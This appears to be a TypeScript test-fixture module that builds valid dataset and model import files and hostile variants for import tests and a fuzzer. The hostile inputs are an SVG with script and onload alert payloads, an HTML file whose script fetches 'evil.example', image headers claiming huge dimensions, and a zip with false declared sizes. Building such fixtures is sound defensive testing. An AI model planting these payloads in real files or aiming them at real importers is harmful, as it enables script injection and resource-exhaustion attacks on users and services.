// Valid files of every import format, made here from the app's own writers, and tools to make them
// hostile: the starting points of the hostile-import tests and of the import fuzzer.
import { strToU8, unzipSync, zipSync } from 'fflate';
import { exportArchive } from '../dataset/archive.ts';
import type { StoredImage } from '../dataset/dataset-store.ts';
import { buildTrainedModel, expectedShapes, type TrainedModel } from '../model/trained-model.ts';
import { trainedModelZip } from '../model/trained-model-zip.ts';
import { Random } from '../shared/random.ts';

export async function jpegBytes(width: number, height: number, colour = '#c33'): Promise<Uint8Array> {
  const canvas = new OffscreenCanvas(width, height);
  const context = canvas.getContext('2d') as OffscreenCanvasRenderingContext2D;
  context.fillStyle = colour;
  context.fillRect(0, 0, width, height);
  context.fillStyle = '#fff';
  context.fillRect(width / 4, height / 4, width / 3, height / 3);
  return new Uint8Array(await (await canvas.convertToBlob({ type: 'image/jpeg', quality: 0.8 })).arrayBuffer());
}

/** A dataset of three small labelled photos (one negative) exported as the app exports it: COCO and YOLO. */
export async function datasetZip(): Promise<Uint8Array> {
  const images: StoredImage[] = [];
  for (const [i, colour] of ['#c33', '#3c3', '#33c'].entries()) {
    const bytes = await jpegBytes(64, 48, colour);
    images.push({
      id: `${i}0000000-fuzz`,
      blob: new Blob([bytes as Uint8Array<ArrayBuffer>], { type: 'image/jpeg' }),
      width: 64,
      height: 48,
      createdAt: i,
      source: 'import',
      boxes: i === 2 ? [] : [{ box: [16, 12, 21, 16], label: i ? 'ball' : 'cup' }],
      negative: i === 2,
      burstId: 'burst-1',
    });
  }
  return exportArchive(images);
}

/** The same dataset as a YOLO zip: images/, labels/ and classes.txt, without the COCO file. */
export async function yoloZip(): Promise<Uint8Array> {
  const { 'annotations.json': _coco, ...rest } = unzipSync(await datasetZip());
  return zipSync(rest);
}

/** A model of the real layout with small seeded weights, and its zip. */
export function testModel(seed = 1): TrainedModel {
  const random = new Random(seed);
  const floats = expectedShapes(1).reduce((sum, { shape }) => sum + shape.reduce((a, b) => a * b, 1), 0);
  const weights = Float32Array.from({ length: floats }, () => random.range(-0.1, 0.1));
  const metrics = {
    ...{ valMAP50: 0.5, stockValMAP50: 0.4, bestEpoch: 1, trainImages: 3, valImages: 1, backend: 'cpu' },
    ...{ ms: 10, featuresMs: 5, epochs: [{ epoch: 1, loss: 1, valLoss: 1, valMAP50: 0.5, ms: 10 }] },
  };
  const settings = {
    ...{ classes: ['ball'], epochs: 1, batchSize: 1, learningRate: 0.01 },
    ...{ augmentCopies: 1, patience: 1, seed, base: 'u8f16' as const },
  };
  return buildTrainedModel({ weights, metrics }, settings, 'fuzz');
}

export const modelZip = (seed = 1): Uint8Array => trainedModelZip(testModel(seed));

/** An IDX file of unsigned bytes with the given dimensions. */
export function idxFile(dims: number[], data: ArrayLike<number>): Uint8Array {
  const bytes = new Uint8Array(4 + 4 * dims.length + data.length);
  const view = new DataView(bytes.buffer);
  bytes.set([0, 0, 8, dims.length]);
  for (const [i, size] of dims.entries()) view.setUint32(4 + 4 * i, size, false);
  bytes.set(data, 4 + 4 * dims.length);
  return bytes;
}

/** A tiny MNIST split: `count` random digits and their labels. */
export function mnistPair(count = 4, seed = 1): { images: Uint8Array; labels: Uint8Array } {
  const random = new Random(seed);
  return {
    images: idxFile(
      [count, 28, 28],
      Array.from({ length: count * 784 }, () => random.int(0, 255)),
    ),
    labels: idxFile(
      [count],
      Array.from({ length: count }, () => random.int(0, 9)),
    ),
  };
}

/** A PNG that is only a header: IHDR says `width`×`height` (a 200-megapixel photo costs 33 bytes). */
export function pngHeader(width: number, height: number): Uint8Array {
  const bytes = new Uint8Array(33);
  bytes.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);
  const view = new DataView(bytes.buffer);
  view.setUint32(16, width);
  view.setUint32(20, height);
  bytes.set([8, 6, 0, 0, 0], 24);
  return bytes;
}

/** A real JPEG whose frame header is rewritten to say `width`×`height`. */
export async function jpegClaiming(width: number, height: number): Promise<Uint8Array> {
  const bytes = await jpegBytes(16, 16);
  for (let at = 2; at < bytes.length; ) {
    const marker = bytes[at + 1] as number;
    const view = new DataView(bytes.buffer);
    if (marker >= 0xc0 && marker <= 0xc2) {
      view.setUint16(at + 5, height);
      view.setUint16(at + 7, width);
      return bytes;
    }
    at += 2 + view.getUint16(at + 2);
  }
  throw new Error('no frame header');
}

export const SVG_AS_IMAGE = strToU8(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
);
export const HTML_AS_IMAGE = strToU8('<!doctype html><html><body><script>fetch("https://evil.example")</script>');

/** Rewrites the unpacked size the central directory declares for each entry (`size(name)` or unchanged). */
export function declareSizes(zip: Uint8Array, size: (name: string) => number | undefined): Uint8Array {
  const bytes = zip.slice();
  const view = new DataView(bytes.buffer);
  for (let at = 0; at + 46 <= bytes.length; at++) {
    if (view.getUint32(at, true) !== 0x02014b50) continue;
    const nameLength = view.getUint16(at + 28, true);
    const name = new TextDecoder().decode(bytes.subarray(at + 46, at + 46 + nameLength));
    const declared = size(name);
    if (declared !== undefined) view.setUint32(at + 24, declared, true);
    at += 45 + nameLength;
  }
  return bytes;
}
